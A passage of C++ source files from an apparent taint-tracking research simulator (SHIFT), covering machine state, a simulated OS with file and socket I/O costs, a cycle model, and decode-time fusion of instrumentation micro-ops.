     * Architectural pc of the faulting constituent when a fault is
     * raised from inside a fused macro micro-op (whose own origIndex
     * only names its first constituent); -1 otherwise. Set just
     * before setFault and left in place — setFault always stops the
     * machine, and the legacy engine's pc likewise stays on the
     * faulting instruction.
     */
    int64_t archPcOverride_ = -1;
    std::vector<Frame> callStack_;

    // Label position tables: labelPos_[func][label] = instruction index.
    std::vector<std::vector<int32_t>> labelPos_;

    std::map<std::string, uint64_t> globalAddr_;
    uint64_t heapBreak_ = 0;
    uint64_t heapLimit_ = 0;

    std::map<std::string, BuiltinFn> builtins_;
    SyscallFn syscall_;
    NatFaultHandler natFault_;
    TraceFn trace_;

    // Run state.
    bool ran_ = false;
    bool stopped_ = false;
    bool exited_ = false;
    int64_t exitCode_ = 0;
    Fault fault_;
    std::vector<SecurityAlert> alerts_;
    bool killedByPolicy_ = false;

    // Accounting.
    static constexpr int kNumProv = kNumProvenance;
    static constexpr int kNumClass = kNumOrigClass;
    uint64_t cycles_ = 0;
    uint64_t osCycles_ = 0;
    uint64_t instrs_ = 0;
    uint64_t cyclesBy_[kNumProv][kNumClass] = {};
    uint64_t instrsBy_[kNumProv][kNumClass] = {};
    uint64_t loadCount_ = 0;
    uint64_t storeCount_ = 0;
    int lastLoadDst_ = -1; ///< destination of the previous instruction
                           ///< when it was a load (for use stalls)
    uint64_t stallCycles_ = 0;

    // Fast-tier state. The per-block vectors are sized from
    // decoded_->fastBlocks at construction; a block that keeps
    // deopting is marked cold and bails to the instrumented stream at
    // entry, so a persistently-tainted block pays one bail instead of
    // a probe-and-deopt forever.
    bool fastEnabled_ = false;
    // Host dispatches retired by runDecoded (micro-ops, probes and
    // sentinels alike) — the denominator the fast tier shrinks; a
    // simulated-instruction count can't show that because fused ops
    // charge many instructions per dispatch and probes charge none.
    uint64_t dispatches_ = 0;
    uint64_t fpEnteredTotal_ = 0;
    uint64_t fpDeoptTotal_ = 0;
    uint64_t fpColdBails_ = 0;
    std::vector<uint32_t> fpEnters_;
    std::vector<uint32_t> fpDeopts_;
    std::vector<uint8_t> fpCold_;
    /** Deopt-cause attribution (always on; deopts are off the hot path). */
    uint64_t fpDeoptCause_[static_cast<size_t>(obs::DeoptCause::kCount)] = {};

    // JIT-tier state (see setJitEnabled). jitCache_ is the shared
    // owner (travels in MachineSnapshot); jitActive_ is set by run()
    // only after validating that the cache matches this machine's
    // program and compile environment, and is what the dispatch hook
    // actually consults.
    bool jitEnabled_ = false;
    uint32_t jitThreshold_ = 0;
    size_t jitCacheBytes_ = 0; ///< code-cache byte budget (0 = default)
    bool jitBackground_ = false; ///< compile on the cache's thread
    bool jitLazy_ = false;       ///< per-superblock compilation units
    std::shared_ptr<jit::CodeCache> jitCache_;
    jit::CodeCache *jitActive_ = nullptr;
    jit::JitCtx jitCtx_;
    uint64_t jitCompiled_ = 0; ///< superblocks compiled by this machine
    uint64_t jitEntered_ = 0;  ///< entries into compiled code
    uint64_t jitDeopts_ = 0;   ///< fast-tier deopts taken inside it
    uint64_t jitBailouts_ = 0; ///< exits back to the interpreter
    uint64_t jitCodeBytes_ = 0; ///< native bytes emitted by this machine
    uint64_t jitEvictions_ = 0; ///< code-cache flushes this machine forced
    uint64_t jitLinkedBuiltins_ = 0; ///< linked builtin/syscall returns

    // Observability state (see setObserver). The hot-spot table is a
    // flat per-original-instruction counter array indexed by
    // hotPcBase_[function] + origIndex; bounded by program size and
    // only allocated (and only incremented — kObs instantiation) when
    // a recorder is attached.
    obs::TraceBuffer *obs_ = nullptr;
    bool obsForce_ = false;
    obs::Profiler *prof_ = nullptr;
    dift::AsyncTaintTier *asyncTier_ = nullptr;
    bool asyncViolationApplied_ = false;
    std::vector<uint32_t> hotPc_;
    std::vector<uint32_t> hotPcBase_;
    std::vector<obs::TraceEvent> provenance_;
};

} // namespace shift

#endif // SHIFT_SIM_MACHINE_HH
