/**
 * @file
 * A small simulated operating system: files, sockets and standard
 * output, with an explicit I/O cost model.
 *
 * Program-visible I/O goes through runtime built-ins which call into
 * this class; the host (tests, benchmarks) provisions files and queues
 * network connections before a run and collects responses afterwards.
 *
 * Every input path reports the bytes it delivered through an input
 * hook together with its channel name ("file", "network", "stdin").
 * The SHIFT runtime installs a hook that taints those bytes according
 * to the [sources] section of the policy configuration — the paper's
 * taint sources (section 3.3.1).
 *
 * The I/O cost model (cycles charged per call and per byte) is what
 * reproduces the Apache result: server time is dominated by I/O, so
 * instrumented user-mode compute barely moves the bottom line
 * (figure 6), with the smallest files showing the largest relative
 * overhead.
 */

#ifndef SHIFT_SIM_OS_HH
#define SHIFT_SIM_OS_HH

#include <cstdint>
#include <deque>
#include <functional>
#include <map>
#include <string>
#include <vector>

namespace shift
{

class Machine;

/** Called whenever OS input lands in program memory. */
using InputHook = std::function<void(Machine &, uint64_t addr,
                                     uint64_t len,
                                     const std::string &channel)>;

/** The simulated OS. */
class Os
{
  public:
    /** Cycle costs per operation. */
    struct Costs
    {
        uint64_t open = 5000;
        uint64_t close = 400;
        uint64_t ioBase = 1500;     ///< per read/write/recv/send call
        uint64_t ioPerByteNum = 1;  ///< per-byte cost = len * num / den
        uint64_t ioPerByteDen = 2;
        uint64_t accept = 2500;
    };

    Os() = default;

    // ----- host-side provisioning ---------------------------------------

    /** Create or replace a simulated file. */
    void addFile(const std::string &path, std::vector<uint8_t> bytes);

    /** Convenience: file from a string. */
    void addFile(const std::string &path, const std::string &text);

    /** True when the file exists. */
    bool hasFile(const std::string &path) const;

    /** Read back a file (e.g. one created by the program). */
    const std::vector<uint8_t> &fileBytes(const std::string &path) const;

    /** Queue an inbound network connection carrying `request`. */
    void queueConnection(std::string request);

    /** Responses written by the program, one per accepted connection. */
    const std::vector<std::string> &responses() const { return responses_; }

    /** Everything written to fd 1. */
    const std::string &stdoutText() const { return stdout_; }

    /** Install the taint-source hook. */
    void setInputHook(InputHook hook) { inputHook_ = std::move(hook); }

    Costs &costs() { return costs_; }

    // ----- program-side operations (called from built-ins) --------------

    /** Flags for openFd. */
    static constexpr int64_t kReadOnly = 0;
    static constexpr int64_t kWriteCreate = 1;

    /** Open a file; returns an fd or -1. */
    int64_t openFd(Machine &m, const std::string &path, int64_t flags);

    /** Read from an fd into simulated memory; returns bytes or -1. */
    int64_t readFd(Machine &m, int64_t fd, uint64_t buf, uint64_t len);

    /** Write from simulated memory to an fd; returns bytes or -1. */
    int64_t writeFd(Machine &m, int64_t fd, uint64_t buf, uint64_t len);

    /** Close an fd; returns 0 or -1. */
    int64_t closeFd(Machine &m, int64_t fd);

    /** Accept a queued connection; returns an fd or -1 when none. */
    int64_t acceptFd(Machine &m);

    /** Size of a file, or -1. */
    int64_t fileSize(const std::string &path) const;

  private:
    enum class FdKind { File, Socket, Stdout };

    struct FdEntry
    {
        FdKind kind = FdKind::File;
        std::string path;    ///< for files
        size_t connIndex = 0;///< for sockets
        uint64_t offset = 0;
        bool writable = false;
        bool open = false;
    };

    struct Connection
    {
        std::string request;
        uint64_t consumed = 0;
        size_t responseIndex = 0;
    };

    void chargeIo(Machine &m, uint64_t base, uint64_t bytes);
    FdEntry *lookup(int64_t fd);
    static bool mem_write_failed(Machine &m, uint64_t buf,
                                 const uint8_t *src, uint64_t n);

    Costs costs_;
    std::map<std::string, std::vector<uint8_t>> files_;
    std::deque<Connection> pending_;
    std::vector<Connection> active_;
    std::vector<std::string> responses_;
    std::string stdout_;
    std::vector<FdEntry> fds_;
    InputHook inputHook_;
};

} // namespace shift

#endif // SHIFT_SIM_OS_HH
