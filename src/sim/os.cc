#include "os.hh"

#include "sim/machine.hh"
#include "support/logging.hh"

namespace shift
{

void
Os::addFile(const std::string &path, std::vector<uint8_t> bytes)
{
    files_[path] = std::move(bytes);
}

void
Os::addFile(const std::string &path, const std::string &text)
{
    files_[path] = std::vector<uint8_t>(text.begin(), text.end());
}

bool
Os::hasFile(const std::string &path) const
{
    return files_.count(path) != 0;
}

const std::vector<uint8_t> &
Os::fileBytes(const std::string &path) const
{
    auto it = files_.find(path);
    if (it == files_.end())
        SHIFT_FATAL("no simulated file '%s'", path.c_str());
    return it->second;
}

void
Os::queueConnection(std::string request)
{
    Connection conn;
    conn.request = std::move(request);
    pending_.push_back(std::move(conn));
}

void
Os::chargeIo(Machine &m, uint64_t base, uint64_t bytes)
{
    uint64_t perByte = bytes * costs_.ioPerByteNum / costs_.ioPerByteDen;
    m.addOsCycles(base + perByte);
}

Os::FdEntry *
Os::lookup(int64_t fd)
{
    // fd 0..2 are reserved; 1 is the captured stdout.
    if (fd < 3)
        return nullptr;
    size_t index = static_cast<size_t>(fd - 3);
    if (index >= fds_.size() || !fds_[index].open)
        return nullptr;
    return &fds_[index];
}

int64_t
Os::openFd(Machine &m, const std::string &path, int64_t flags)
{
    m.addOsCycles(costs_.open);
    bool writable = flags == kWriteCreate;
    if (!writable && !files_.count(path))
        return -1;
    if (writable)
        files_[path].clear();
    FdEntry entry;
    entry.kind = FdKind::File;
    entry.path = path;
    entry.writable = writable;
    entry.open = true;
    fds_.push_back(entry);
    return static_cast<int64_t>(fds_.size() - 1) + 3;
}

int64_t
Os::readFd(Machine &m, int64_t fd, uint64_t buf, uint64_t len)
{
    FdEntry *entry = lookup(fd);
    if (!entry)
        return -1;

    const uint8_t *src = nullptr;
    uint64_t avail = 0;
    std::string channel;
    if (entry->kind == FdKind::File) {
        const auto &bytes = files_[entry->path];
        if (entry->offset >= bytes.size()) {
            chargeIo(m, costs_.ioBase, 0);
            return 0;
        }
        src = bytes.data() + entry->offset;
        avail = bytes.size() - entry->offset;
        channel = "file";
    } else if (entry->kind == FdKind::Socket) {
        Connection &conn = active_[entry->connIndex];
        if (conn.consumed >= conn.request.size()) {
            chargeIo(m, costs_.ioBase, 0);
            return 0;
        }
        src = reinterpret_cast<const uint8_t *>(conn.request.data()) +
              conn.consumed;
        avail = conn.request.size() - conn.consumed;
        channel = "network";
    } else {
        return -1;
    }

    uint64_t n = std::min(len, avail);
    if (mem_write_failed(m, buf, src, n))
        return -1;
    entry->offset += (entry->kind == FdKind::File) ? n : 0;
    if (entry->kind == FdKind::Socket)
        active_[entry->connIndex].consumed += n;
    chargeIo(m, costs_.ioBase, n);
    if (inputHook_ && n > 0)
        inputHook_(m, buf, n, channel);
    return static_cast<int64_t>(n);
}

int64_t
Os::writeFd(Machine &m, int64_t fd, uint64_t buf, uint64_t len)
{
    std::vector<uint8_t> data(len);
    if (m.memory().readBytes(buf, data.data(), len) != MemFault::None)
        return -1;

    if (fd == 1) {
        stdout_.append(data.begin(), data.end());
        chargeIo(m, costs_.ioBase, len);
        return static_cast<int64_t>(len);
    }

    FdEntry *entry = lookup(fd);
    if (!entry)
        return -1;
    if (entry->kind == FdKind::File) {
        if (!entry->writable)
            return -1;
        auto &bytes = files_[entry->path];
        bytes.insert(bytes.end(), data.begin(), data.end());
    } else if (entry->kind == FdKind::Socket) {
        responses_[active_[entry->connIndex].responseIndex]
            .append(data.begin(), data.end());
    } else {
        return -1;
    }
    chargeIo(m, costs_.ioBase, len);
    return static_cast<int64_t>(len);
}

int64_t
Os::closeFd(Machine &m, int64_t fd)
{
    m.addOsCycles(costs_.close);
    FdEntry *entry = lookup(fd);
    if (!entry)
        return -1;
    entry->open = false;
    return 0;
}

int64_t
Os::acceptFd(Machine &m)
{
    m.addOsCycles(costs_.accept);
    if (pending_.empty())
        return -1;
    Connection conn = std::move(pending_.front());
    pending_.pop_front();
    conn.responseIndex = responses_.size();
    responses_.emplace_back();
    active_.push_back(std::move(conn));

    FdEntry entry;
    entry.kind = FdKind::Socket;
    entry.connIndex = active_.size() - 1;
    entry.open = true;
    entry.writable = true;
    fds_.push_back(entry);
    return static_cast<int64_t>(fds_.size() - 1) + 3;
}

int64_t
Os::fileSize(const std::string &path) const
{
    auto it = files_.find(path);
    if (it == files_.end())
        return -1;
    return static_cast<int64_t>(it->second.size());
}

bool
Os::mem_write_failed(Machine &m, uint64_t buf, const uint8_t *src,
                     uint64_t n)
{
    return m.memory().writeBytes(buf, src, n) != MemFault::None;
}

} // namespace shift
