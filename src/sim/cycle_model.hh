/**
 * @file
 * Static per-instruction cycle costs for the in-order SHIFT-64 core.
 *
 * The model is a single-issue in-order pipeline: every issued (or
 * predicated-off) instruction consumes its base cost; loads add the L1
 * hit or miss penalty; taken branches pay a front-end bubble. Absolute
 * numbers are not meant to match an Itanium 2 — only the *relative*
 * cost of instrumented versus original code matters for reproducing
 * the paper's slowdown shapes.
 */

#ifndef SHIFT_SIM_CYCLE_MODEL_HH
#define SHIFT_SIM_CYCLE_MODEL_HH

#include <cstdint>

namespace shift
{

struct CycleModel
{
    uint64_t alu = 1;
    uint64_t mul = 3;
    uint64_t div = 16;
    uint64_t loadBase = 1;
    uint64_t loadHit = 1;      ///< extra cycles on an L1 hit
    uint64_t loadMiss = 28;    ///< extra cycles on an L1 miss
    uint64_t storeBase = 1;
    uint64_t storeMiss = 4;    ///< extra cycles when the line is absent
    uint64_t branch = 1;
    uint64_t branchTaken = 2;  ///< front-end bubble for a taken branch
    uint64_t call = 3;
    uint64_t syscallBase = 200; ///< trap entry/exit before the OS cost
    uint64_t nullified = 1;    ///< predicated-off ops still use a slot
    uint64_t loadUseStall = 2; ///< consumer in the slot right after a
                               ///< load stalls on the result

    // Costs are baked into JIT-compiled code (see src/jit), so the
    // code cache must be able to tell whether a machine's model still
    // matches the one it compiled against.
    bool operator==(const CycleModel &) const = default;
};

} // namespace shift

#endif // SHIFT_SIM_CYCLE_MODEL_HH
