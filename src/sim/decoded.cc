#include "sim/decoded.hh"

#include <unordered_map>

#include "mem/address_space.hh"

namespace shift
{

namespace
{

/**
 * Precomputed operand set for the load-use stall check. chk.s only
 * inspects the NaT bit, which is available early, so it never stalls
 * (mask 0 folds the legacy stepper's opcode test into the mask).
 */
uint64_t
stallUseMask(const Instr &instr)
{
    if (instr.op == Opcode::Chk)
        return 0;
    return regUseMask(instr);
}

Fault
badProgram(const Function &fn, int funcIndex, size_t origIndex,
           int64_t label)
{
    Fault fault;
    fault.kind = FaultKind::BadProgram;
    fault.context = FaultContext::ControlFlow;
    fault.function = funcIndex;
    fault.pc = origIndex;
    fault.detail = "branch to unresolved label L" + std::to_string(label) +
                   " in function '" + fn.name + "'";
    return fault;
}

// ------------------------------------------------------------------
// Decode-time macro-op fusion.
//
// The matchers below recognize the instrumenter's fixed idioms (see
// src/core/instrument.cc) on the dense stream, field-exactly: opcode,
// registers, immediates, qualifying predicates AND the precomputed
// (provenance, class) stat index of every constituent, so only
// instrumentation sequences — never structurally similar user code —
// fuse, and the fused handler can re-derive each constituent's stat
// attribution. All captured registers must be pairwise distinct
// (guaranteed for instrumenter output, whose scratch registers are
// compiler-reserved); the handlers rely on that to keep values in
// locals between constituent writes.
// ------------------------------------------------------------------

Provenance
provOf(const DecodedInstr &d)
{
    return static_cast<Provenance>(d.statIdx / kNumOrigClass);
}

OrigClass
clsOf(const DecodedInstr &d)
{
    return static_cast<OrigClass>(d.statIdx % kNumOrigClass);
}

/** dst = src1 OP src2 (register form), unpredicated. */
bool
aluReg(const DecodedInstr &d, Opcode op, unsigned r1, unsigned r2,
       unsigned r3)
{
    return d.op == op && !d.useImm && d.qp == 0 && d.r1 == r1 &&
           d.r2 == r2 && d.r3 == r3;
}

/** dst = src1 OP imm, unpredicated. */
bool
aluImm(const DecodedInstr &d, Opcode op, unsigned r1, unsigned r2,
       int64_t imm)
{
    return d.op == op && d.useImm && d.qp == 0 && d.r1 == r1 &&
           d.r2 == r2 && d.imm == imm;
}

/** Plain (non-speculative, non-fill) single-byte tag load. */
bool
tagLd1(const DecodedInstr &d, unsigned r1, unsigned r2)
{
    return d.op == Opcode::Ld && d.qp == 0 && d.size == 1 && !d.spec &&
           !d.fill && d.r1 == r1 && d.r2 == r2;
}

/** Plain single-byte tag store. */
bool
tagSt1(const DecodedInstr &d, unsigned addr, unsigned src)
{
    return d.op == Opcode::St && d.qp == 0 && d.size == 1 && !d.spill &&
           d.r1 == addr && d.r2 == src;
}

bool
distinct3(unsigned a, unsigned b, unsigned c)
{
    return a != b && a != c && b != c && a != reg::zero &&
           b != reg::zero && c != reg::zero;
}

/**
 * The figure-4 tag-address fold:
 *   extr t0 = R, 61, 3; shl t0 = t0, rs; extr t1 = R, ds, 36-ds;
 *   or t0 = t0, t1
 * with rs = kImplementedBits - ds and ds the bitmap density shift
 * (3 byte-granularity, 6 word).
 */
size_t
matchFoldD(const std::vector<DecodedInstr> &c, size_t i, DecodedInstr &f)
{
    if (i + 4 > c.size())
        return 0;
    const DecodedInstr &e0 = c[i];
    if (e0.op != Opcode::Extr || e0.useImm || e0.qp != 0 ||
        e0.pos != kRegionShift || e0.len != 3)
        return 0;
    if (provOf(e0) != Provenance::TagAddr)
        return 0;
    unsigned t0 = e0.r1, R = e0.r2;
    const DecodedInstr &s1 = c[i + 1];
    if (!(s1.op == Opcode::Shl && s1.useImm && s1.qp == 0 &&
          s1.r1 == t0 && s1.r2 == t0))
        return 0;
    int64_t rs = s1.imm;
    if (rs != static_cast<int64_t>(kImplementedBits) - 3 &&
        rs != static_cast<int64_t>(kImplementedBits) - 6)
        return 0;
    unsigned ds = kImplementedBits - static_cast<unsigned>(rs);
    const DecodedInstr &e2 = c[i + 2];
    if (!(e2.op == Opcode::Extr && !e2.useImm && e2.qp == 0 &&
          e2.r2 == R && e2.pos == ds &&
          e2.len == kImplementedBits - ds))
        return 0;
    unsigned t1 = e2.r1;
    if (!distinct3(t0, t1, R))
        return 0;
    const DecodedInstr &o3 = c[i + 3];
    if (!aluReg(o3, Opcode::Or, t0, t0, t1))
        return 0;
    if (s1.statIdx != e0.statIdx || e2.statIdx != e0.statIdx ||
        o3.statIdx != e0.statIdx)
        return 0;
    f = DecodedInstr{};
    f.op = Opcode::FusedTagAddr;
    f.useMask = e0.useMask;
    f.origIndex = e0.origIndex;
    f.statIdx = e0.statIdx;
    f.r1 = static_cast<uint16_t>(t0);
    f.r2 = static_cast<uint16_t>(R);
    f.r3 = static_cast<uint16_t>(t1);
    f.pos = static_cast<uint8_t>(ds);
    f.len = e2.len;
    f.imm = rs;
    return 4;
}

/**
 * The byte-granularity bitmap check (9 instructions assembling a
 * 16-bit tag window from two byte loads) or the word-granularity one
 * (4 instructions), ending in the kPTag-setting compare/tbit.
 */
size_t
matchCheckD(const std::vector<DecodedInstr> &c, size_t i, DecodedInstr &f)
{
    if (i + 4 > c.size())
        return 0;
    const DecodedInstr &l0 = c[i];
    if (l0.op != Opcode::Ld || l0.qp != 0 || l0.size != 1 || l0.spec ||
        l0.fill)
        return 0;
    if (provOf(l0) != Provenance::TagMem)
        return 0;
    unsigned t1 = l0.r1, t0 = l0.r2;
    OrigClass cls = clsOf(l0);
    uint8_t sMem = l0.statIdx;
    uint8_t sAddr =
        static_cast<uint8_t>(statIndex(Provenance::TagAddr, cls));
    uint8_t sReg =
        static_cast<uint8_t>(statIndex(Provenance::TagReg, cls));

    // Byte form: add t2=t0,1; ld1 t2,[t2]; shl t2,8; or t1,t2;
    //            and t2=R,7; shr t1,t2; and t1,mask; cmp.ne pT=t1,0
    if (i + 9 <= c.size() && c[i + 1].op == Opcode::Add) {
        const DecodedInstr &a1 = c[i + 1];
        unsigned t2 = a1.r1;
        const DecodedInstr &a5 = c[i + 5];
        unsigned R = a5.r2;
        const DecodedInstr &a7 = c[i + 7];
        const DecodedInstr &m8 = c[i + 8];
        if (aluImm(a1, Opcode::Add, t2, t0, 1) && a1.statIdx == sAddr &&
            distinct3(t0, t1, t2) && R != t0 && R != t1 && R != t2 &&
            R != reg::zero && tagLd1(c[i + 2], t2, t2) &&
            c[i + 2].statIdx == sMem &&
            aluImm(c[i + 3], Opcode::Shl, t2, t2, 8) &&
            c[i + 3].statIdx == sAddr &&
            aluReg(c[i + 4], Opcode::Or, t1, t1, t2) &&
            c[i + 4].statIdx == sAddr &&
            aluImm(a5, Opcode::And, t2, R, 7) && a5.statIdx == sAddr &&
            aluReg(c[i + 6], Opcode::Shr, t1, t1, t2) &&
            c[i + 6].statIdx == sAddr && a7.op == Opcode::And &&
            a7.useImm && a7.qp == 0 && a7.r1 == t1 && a7.r2 == t1 &&
            a7.statIdx == sAddr && m8.op == Opcode::Cmp &&
            m8.rel == CmpRel::Ne && m8.useImm && m8.imm == 0 &&
            m8.qp == 0 && m8.r2 == t1 && m8.p2 == 0 && m8.p1 != 0 &&
            m8.statIdx == sReg) {
            f = DecodedInstr{};
            f.op = Opcode::FusedChkByte;
            f.useMask = l0.useMask;
            f.origIndex = l0.origIndex;
            f.statIdx = sMem;
            f.r1 = static_cast<uint16_t>(t1);
            f.r2 = static_cast<uint16_t>(R);
            f.r3 = static_cast<uint16_t>(t2);
            f.br = static_cast<uint8_t>(t0);
            f.p1 = m8.p1;
            f.imm = a7.imm;
            return 9;
        }
    }

    // Word form: extr t2=R,3,3; shr t1,t2; tbit pT=t1,0
    const DecodedInstr &e1 = c[i + 1];
    if (e1.op == Opcode::Extr && !e1.useImm && e1.qp == 0 &&
        e1.pos == 3 && e1.len == 3 && e1.statIdx == sAddr) {
        unsigned t2 = e1.r1, R = e1.r2;
        const DecodedInstr &tb = c[i + 3];
        if (distinct3(t0, t1, t2) && R != t0 && R != t1 && R != t2 &&
            R != reg::zero &&
            aluReg(c[i + 2], Opcode::Shr, t1, t1, t2) &&
            c[i + 2].statIdx == sAddr && tb.op == Opcode::Tbit &&
            tb.qp == 0 && tb.r2 == t1 && tb.imm == 0 && tb.p2 == 0 &&
            tb.p1 != 0 && tb.statIdx == sReg) {
            f = DecodedInstr{};
            f.op = Opcode::FusedChkWord;
            f.useMask = l0.useMask;
            f.origIndex = l0.origIndex;
            f.statIdx = sMem;
            f.r1 = static_cast<uint16_t>(t1);
            f.r2 = static_cast<uint16_t>(R);
            f.r3 = static_cast<uint16_t>(t2);
            f.br = static_cast<uint8_t>(t0);
            f.p1 = tb.p1;
            return 4;
        }
    }
    return 0;
}

/**
 * The spill/reload NaT purge (section 4.1, no natSetClear):
 *   add t3 = sp, -16; st8.spill [t3] = r; ld8 r = [t3]
 */
size_t
matchClearNatD(const std::vector<DecodedInstr> &c, size_t i,
               DecodedInstr &f)
{
    if (i + 3 > c.size())
        return 0;
    const DecodedInstr &a0 = c[i];
    if (a0.op != Opcode::Add || !a0.useImm || a0.qp != 0)
        return 0;
    if (provOf(a0) == Provenance::Original)
        return 0;
    unsigned t3 = a0.r1, base = a0.r2;
    const DecodedInstr &s1 = c[i + 1];
    if (!(s1.op == Opcode::St && s1.spill && s1.qp == 0 &&
          s1.size == 8 && s1.r1 == t3))
        return 0;
    unsigned r = s1.r2;
    if (r == t3 || r == reg::zero || t3 == reg::zero)
        return 0;
    const DecodedInstr &l2 = c[i + 2];
    if (!(l2.op == Opcode::Ld && l2.qp == 0 && !l2.spec && !l2.fill &&
          l2.size == 8 && l2.r1 == r && l2.r2 == t3))
        return 0;
    if (s1.statIdx != a0.statIdx || l2.statIdx != a0.statIdx)
        return 0;
    f = DecodedInstr{};
    f.op = Opcode::FusedClearNat;
    f.useMask = a0.useMask;
    f.origIndex = a0.origIndex;
    f.statIdx = a0.statIdx;
    f.r1 = static_cast<uint16_t>(r);
    f.r2 = static_cast<uint16_t>(base);
    f.r3 = static_cast<uint16_t>(t3);
    f.imm = a0.imm;
    return 3;
}

/**
 * The bitmap read-modify-write update: the 3-instruction mask build
 * followed by ld1/(pSet)or/(pClr)andcm/st1, with the straddle half at
 * t0+1 under byte granularity (13 instructions total; word takes 7).
 */
size_t
matchStUpdD(const std::vector<DecodedInstr> &c, size_t i, DecodedInstr &f)
{
    if (i + 7 > c.size())
        return 0;
    const DecodedInstr &m0 = c[i];
    bool byteGran;
    unsigned t2, R;
    if (m0.op == Opcode::And && m0.useImm && m0.qp == 0 && m0.imm == 7) {
        byteGran = true;
        t2 = m0.r1;
        R = m0.r2;
    } else if (m0.op == Opcode::Extr && !m0.useImm && m0.qp == 0 &&
               m0.pos == 3 && m0.len == 3) {
        byteGran = false;
        t2 = m0.r1;
        R = m0.r2;
    } else {
        return 0;
    }
    if (provOf(m0) != Provenance::TagAddr)
        return 0;
    size_t len = byteGran ? 13 : 7;
    if (i + len > c.size())
        return 0;
    OrigClass cls = clsOf(m0);
    uint8_t sAddr = m0.statIdx;
    uint8_t sMem =
        static_cast<uint8_t>(statIndex(Provenance::TagMem, cls));
    uint8_t sReg =
        static_cast<uint8_t>(statIndex(Provenance::TagReg, cls));

    const DecodedInstr &m1 = c[i + 1];
    if (!(m1.op == Opcode::Movi && m1.useImm && m1.qp == 0 &&
          m1.statIdx == sAddr))
        return 0;
    unsigned t3 = m1.r1;
    if (!aluReg(c[i + 2], Opcode::Shl, t3, t3, t2) ||
        c[i + 2].statIdx != sAddr)
        return 0;
    const DecodedInstr &l3 = c[i + 3];
    if (!(l3.op == Opcode::Ld && l3.qp == 0 && l3.size == 1 &&
          !l3.spec && !l3.fill && l3.statIdx == sMem))
        return 0;
    unsigned t1 = l3.r1, t0 = l3.r2;
    if (!distinct3(t0, t1, t2) || !distinct3(t0, t1, t3) ||
        !distinct3(t2, t3, R) || R == t0 || R == t1 || t2 == t3)
        return 0;
    const DecodedInstr &o4 = c[i + 4];
    const DecodedInstr &a5 = c[i + 5];
    if (!(o4.op == Opcode::Or && !o4.useImm && o4.r1 == t1 &&
          o4.r2 == t1 && o4.r3 == t3 && o4.qp != 0 &&
          o4.statIdx == sReg))
        return 0;
    uint8_t pSet = o4.qp;
    if (!(a5.op == Opcode::Andcm && !a5.useImm && a5.r1 == t1 &&
          a5.r2 == t1 && a5.r3 == t3 && a5.qp != 0 && a5.qp != pSet &&
          a5.statIdx == sReg))
        return 0;
    uint8_t pClr = a5.qp;
    if (!tagSt1(c[i + 6], t0, t1) || c[i + 6].statIdx != sMem)
        return 0;
    if (byteGran) {
        if (!aluImm(c[i + 7], Opcode::Shr, t3, t3, 8) ||
            c[i + 7].statIdx != sAddr)
            return 0;
        if (!aluImm(c[i + 8], Opcode::Add, t2, t0, 1) ||
            c[i + 8].statIdx != sAddr)
            return 0;
        if (!tagLd1(c[i + 9], t1, t2) || c[i + 9].statIdx != sMem)
            return 0;
        const DecodedInstr &o10 = c[i + 10];
        const DecodedInstr &a11 = c[i + 11];
        if (!(o10.op == Opcode::Or && !o10.useImm && o10.r1 == t1 &&
              o10.r2 == t1 && o10.r3 == t3 && o10.qp == pSet &&
              o10.statIdx == sReg))
            return 0;
        if (!(a11.op == Opcode::Andcm && !a11.useImm && a11.r1 == t1 &&
              a11.r2 == t1 && a11.r3 == t3 && a11.qp == pClr &&
              a11.statIdx == sReg))
            return 0;
        if (!tagSt1(c[i + 12], t2, t1) || c[i + 12].statIdx != sMem)
            return 0;
    }
    f = DecodedInstr{};
    f.op = byteGran ? Opcode::FusedStUpdByte : Opcode::FusedStUpdWord;
    f.useMask = m0.useMask;
    f.origIndex = m0.origIndex;
    f.statIdx = sAddr;
    f.r1 = static_cast<uint16_t>(t1);
    f.r2 = static_cast<uint16_t>(R);
    f.r3 = static_cast<uint16_t>(t3);
    f.br = static_cast<uint8_t>(t2);
    f.target = static_cast<int32_t>(t0);
    f.p1 = pSet;
    f.p2 = pClr;
    f.imm = m1.imm;
    return len;
}

/**
 * Fuse the instrumenter idioms in one dense stream (sentinel not yet
 * appended). Groups with a branch landing in their interior or with
 * non-contiguous original indices are left unfused; every Br/Chk
 * target is remapped onto the shrunk stream afterwards.
 */
void
fuseFunction(DecodedFunction &df)
{
    std::vector<DecodedInstr> &in = df.code;
    const size_t n = in.size();
    if (n < 3)
        return;

    std::vector<uint8_t> isTarget(n + 1, 0);
    for (const DecodedInstr &d : in) {
        if ((d.op == Opcode::Br || d.op == Opcode::Chk) && d.target >= 0)
            isTarget[static_cast<size_t>(d.target)] = 1;
    }

    auto groupOk = [&](size_t i, size_t len) {
        for (size_t k = 1; k < len; ++k) {
            if (isTarget[i + k])
                return false;
            if (in[i + k].origIndex !=
                in[i].origIndex + static_cast<int32_t>(k))
                return false;
        }
        return true;
    };

    std::vector<DecodedInstr> out;
    out.reserve(n);
    std::vector<int32_t> remap(n + 1, 0);
    size_t i = 0;
    bool changed = false;
    while (i < n) {
        DecodedInstr f;
        size_t len = 0;
        switch (in[i].op) {
          case Opcode::Extr:
            len = matchFoldD(in, i, f);
            if (!len)
                len = matchStUpdD(in, i, f); // word-granularity mask
            break;
          case Opcode::And:
            len = matchStUpdD(in, i, f); // byte-granularity mask
            break;
          case Opcode::Ld:
            len = matchCheckD(in, i, f);
            break;
          case Opcode::Add:
            len = matchClearNatD(in, i, f);
            break;
          default:
            break;
        }
        if (len > 1 && groupOk(i, len)) {
            for (size_t k = 0; k < len; ++k)
                remap[i + k] = static_cast<int32_t>(out.size());
            out.push_back(f);
            i += len;
            changed = true;
        } else {
            remap[i] = static_cast<int32_t>(out.size());
            out.push_back(in[i]);
            ++i;
        }
    }
    remap[n] = static_cast<int32_t>(out.size());
    if (!changed)
        return;
    for (DecodedInstr &d : out) {
        if ((d.op == Opcode::Br || d.op == Opcode::Chk) && d.target >= 0)
            d.target = remap[static_cast<size_t>(d.target)];
    }
    in = std::move(out);
}

// ------------------------------------------------------------------
// The taint-clean fast tier (docs/FAST-PATH.md).
//
// buildFastStream() partitions the fused slow stream into superblocks
// (leaders: index 0, every Br/Chk target, the sentinel) and emits a
// parallel fast stream: one FpEnter per block, kept instructions
// copied one-to-one, and every elidable taint group — the decode-time
// Fused* micro-ops plus the optimizer's narrowed remnants, which are
// too irregular to fuse — replaced by a single summary probe. A probe
// that cannot prove its group invisible deopts to the slow stream at
// the group's own dense index, so kept instructions execute exactly
// once in exactly one stream and nothing is replayed.
//
// The narrowed-remnant matchers below are the decoded-stream twins of
